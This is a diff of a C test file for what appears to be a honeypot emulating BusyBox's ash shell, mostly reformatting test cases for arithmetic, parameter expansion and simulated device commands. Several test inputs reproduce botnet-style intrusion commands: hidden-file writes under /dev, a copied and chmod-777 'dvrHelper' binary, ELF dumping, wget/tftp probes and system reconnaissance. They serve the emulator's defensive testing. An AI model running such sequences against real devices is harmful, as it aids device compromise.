-	out = run(fx, "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon");
+	out = run(
+	    fx,
+	    "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon");
 	assert_memory_equal(out, "kami/dev\n", 9);
 	out = run(fx, "cd /dev/; cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper; echo ok");
 	assert_memory_equal(out, "ok\n", 3);
 	out = run(fx, "/bin/busybox cat /proc/cpuinfo /proc/uptime; free; df; ls /; ps; uname -a");
 	assert_null(strstr(out, "ELF"));
 	out = run(fx, "/bin/busybox cat /bin/echo");
-	assert_memory_equal(out, "\x7f" "ELF", 4);
+	assert_memory_equal(out,
+			    "\x7f"
+			    "ELF",
+			    4);
 	assert_int_equal((unsigned char)out[5], fx->loaded->elf.ei_data);
 	out = run(fx, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
 	if (persona_has_applet(fx->loaded, "tftp"))
@@ -1237,7 +1356,6 @@ static void t_real_persona(void **state)
 	if (!persona_has_applet(fx->loaded, "wget"))
 		assert_non_null(strstr(out, "wget: applet not found"));
 }
-
 
 /* ------------------------------------------------------------------ */
 /* the language of ash: expected bytes from BusyBox 1.35.0's ash (the   */
@@ -1254,8 +1372,7 @@ static void t_arith(void **state)
 	LANG_EQ(fx, "echo $((1+2)) $((7/2)) $((2**3))", "3 3 8\n");
 	LANG_EQ(fx, "echo $((10%3)) $((1<<4)) $((255>>4)) $((5&3)) $((5|3)) $((5^3))",
 		"1 16 15 1 7 6\n");
-	LANG_EQ(fx, "echo $((1<2)) $((2<1)) $((1==1)) $((1!=1)) $((!0)) $((~0))",
-		"1 0 1 0 1 -1\n");
+	LANG_EQ(fx, "echo $((1<2)) $((2<1)) $((1==1)) $((1!=1)) $((!0)) $((~0))", "1 0 1 0 1 -1\n");
 	LANG_EQ(fx, "echo $((7>=7)) $((3<=2)) $((1 && 0)) $((0 || 5))", "1 0 0 1\n");
 	LANG_EQ(fx, "echo $((1?2:3)) $((0?2:3)) $((0?1:0?2:3)) $((0 ? 1 : 2 + 5))", "2 3 3 7\n");
 	LANG_EQ(fx,
@@ -1271,8 +1388,7 @@ static void t_arith(void **state)
 		"4 512 -9223372036854775808 0\n");
 	LANG_EQ(fx, "echo $((1 << 64)) $((1<<-1))", "1 -9223372036854775808\n");
 	LANG_EQ(fx, "echo $((18446744073709551615)) $((18446744073709551616))", "-1 0\n");
-	LANG_EQ(fx, "echo $((1++2)) $((3 -- 1)) $((-3/2)) $((-3%2)) $((3 % -2))",
-		"3 4 -1 -1 1\n");
+	LANG_EQ(fx, "echo $((1++2)) $((3 -- 1)) $((-3/2)) $((-3%2)) $((3 % -2))", "3 4 -1 -1 1\n");
 	LANG_EQ(fx, "echo $(( (-9223372036854775807-1) / -1 ))", "-9223372036854775808\n");
 	LANG_EQ(fx, "x=1+2; echo $((x*3)); x=' 12 '; echo $((x+1)); x=; echo $((x+1))",
 		"9\n13\n1\n");
@@ -1319,7 +1435,8 @@ static void t_param(void **state)
 	LANG_EQ(fx, "echo ${q:?unset here}; echo after", "-sh: q: unset here\n");
 	LANG_EQ(fx, "echo ${q:?}", "-sh: q: parameter not set or null\n");
 	LANG_EQ(fx, "echo ${q?}", "-sh: q: parameter not set\n");
-	LANG_EQ(fx, "x=foo.tar.gz; echo ${x#*.} ${x##*.} ${x%.*} ${x%%.*}", "tar.gz gz foo.tar foo\n");
+	LANG_EQ(fx, "x=foo.tar.gz; echo ${x#*.} ${x##*.} ${x%.*} ${x%%.*}",
+		"tar.gz gz foo.tar foo\n");
 	LANG_EQ(fx, "x=/usr/local/bin; echo ${x##*/} ${x%/*} ${x#/} ${x%%/*}x",
 		"bin /usr/local usr/local/bin x\n");
 	LANG_EQ(fx, "x=\"a*b\"; echo ${x#\"a*\"} ${x#a\\*} ${x%\"*b\"}", "b b a\n");
@@ -1394,31 +1511,32 @@ static void t_funcs_case_params(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test_setup_teardown(t_scanner, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_mounts_nippon, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_cp_chmod_cat_echo, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_echo_rebuild, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_exec_elf, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_while_read_dd, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_andor_status, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_nodes_grow, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_budget_memory, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_budget_work, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_fetch, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_fetch_wait, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_fetch_wait_more, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_fetch_url, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_inject, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_caps, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_fs_kb, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_su_ps_kill, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_cli, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_real_persona, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_fetch_pipe_sh, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_arith, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_param, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_heredoc, setup, teardown),
-		cmocka_unit_test_setup_teardown(t_funcs_case_params, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_scanner, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_mounts_nippon, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_cp_chmod_cat_echo, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_echo_rebuild, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_exec_elf, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_while_read_dd, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_andor_status, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_nodes_grow, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_budget_memory, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_budget_work, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_fetch, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_fetch_wait, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_fetch_wait_more, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_fetch_url, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_inject, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_caps, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_fs_kb, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_su_ps_kill, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_interrupt_and_eof, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_cli, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_real_persona, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_fetch_pipe_sh, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_arith, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_param, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_heredoc, setup, teardown),
+	    cmocka_unit_test_setup_teardown(t_funcs_case_params, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
